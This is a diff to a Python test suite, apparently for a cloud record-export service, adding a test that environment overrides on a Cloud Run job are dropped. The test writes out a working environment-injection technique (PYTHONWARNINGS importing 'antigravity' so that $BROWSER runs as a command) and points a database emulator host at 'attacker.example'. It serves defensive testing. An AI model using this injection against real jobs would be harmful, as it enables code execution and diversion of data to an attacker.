@@ -21,8 +21,11 @@ import asyncio
 import base64
 import itertools
 import json
+import os
 import re
 import shlex
+import subprocess
+import sys
 from dataclasses import dataclass
 from functools import cache
 from pathlib import Path
@@ -42,8 +45,11 @@ from tests.infra.cell_world import (
     REGION,
     REPOSITORY,
     STATE_BUCKET,
+    SYSTEMS_SETTING,
     VARIABLES,
     account,
+    job_command,
+    job_settings,
     world,
 )
 from tests.infra.test_fleet import _root_console
@@ -576,6 +582,56 @@ def test_only_on_call_as_the_operator_account_runs_the_cells_jobs(cloud: Cloud) 
 
 
 @pytest.mark.slow
+def test_an_override_of_a_jobs_environment_runs_nothing_and_changes_no_setting(
+    cloud: Cloud, tmp_path: Path
+) -> None:
+    # On-call may override an execution's environment as well as its arguments
+    # (run.jobs.runWithOverrides), and the export job runs as the exporter's account.
+    # The way in is real: PYTHONWARNINGS imports a module of the caller's choosing, and
+    # `antigravity` opens $BROWSER, a command line.
+    ran = tmp_path / "ran"
+    hostile = {
+        "PYTHONWARNINGS": "ignore::antigravity.x",
+        "BROWSER": f"touch {ran} %s",
+        "RECORDLINE_SYSTEMS": "@/elsewhere/systems.json",
+        "SPANNER_EMULATOR_HOST": "attacker.example:9010",
+    }
+    subprocess.run(
+        [sys.executable, "-c", "pass"], env={**os.environ, **hostile}, capture_output=True
+    )
+    assert ran.exists()
+    ran.unlink()
+    overrides = "|".join(f"{name}={value}" for name, value in hostile.items())
+    run(  # exits 0: the execution ran and completed
+        cloud,
+        where(),
+        'gcloud run jobs execute "$EXPORT_JOB" --project="$PROJECT" --region="$REGION" '
+        '--impersonate-service-account="$OPERATOR" --wait '
+        f"--update-env-vars='^|^{overrides}' --args=export,--system=orders,status",
+    )
+    (given,) = recorded(cloud)
+    assert given["command"] == "export"
+    # Nothing ran besides; the settings are the job's command's, not the override's.
+    assert not ran.exists()
+    assert given["env"]["RECORDLINE_SYSTEMS"] == SYSTEMS_SETTING
+    assert given["env"]["CLOUD_RUN_EXECUTION"] == "recordline-export-00001"
+    assert set(given["env"]) == {
+        *job_settings(cloud.world["jobs"]["recordline-export"]),
+        "CLOUD_RUN_JOB",
+        "CLOUD_RUN_EXECUTION",
+        "CLOUD_RUN_TASK_INDEX",
+        "CLOUD_RUN_TASK_ATTEMPT",
+        "CLOUD_RUN_TASK_COUNT",
+    }
+    # The job's log names what it left out.
+    logs = [e.get("textPayload", "") for e in cloud.world["logs"]]
+    (left,) = [line for line in logs if "left out of its environment" in line]
+    named = set(left.split(": ", 1)[1].split(", "))
+    # Besides the override's, the fake's own: its world and its image's code.
+    assert named == {*hostile, "FAKE_CLOUD_WORLD", "PYTHONPATH"}
+
+
+@pytest.mark.slow
 def test_the_restore_commands_are_ones_recordline_takes(cloud: Cloud) -> None:
     lines = [
         line.strip()
@@ -858,7 +914,7 @@ def with_export_job(env: dict[str, str]) -> dict[str, Any]:
         {"recordline": {**directory()["recordline"], "instance": "recordline-serving"}}
     )
     job = state["jobs"]["recordline-export"]
-    job["env"] = {**env, "RECORDLINE_LOG_FORMAT": "json"}
+    job["command"] = job_command({**env, "RECORDLINE_LOG_FORMAT": "json"})
     return state
 
 
